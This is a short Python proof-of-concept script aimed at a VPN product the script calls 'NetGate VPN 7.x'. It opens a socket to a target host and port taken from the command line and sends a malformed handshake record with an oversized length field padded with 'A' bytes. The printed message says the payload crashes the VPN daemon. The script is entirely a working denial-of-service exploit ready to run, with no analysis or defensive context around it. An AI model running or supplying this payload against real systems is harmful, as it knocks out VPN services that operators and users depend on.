import socket
import sys

host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port))
# oversized handshake length field
s.send(b"\x16\x03\x01" + b"\xff\xff" + b"A" * 64)
print("[*] payload sent; this crashes the daemon on NetGate VPN 7.x")
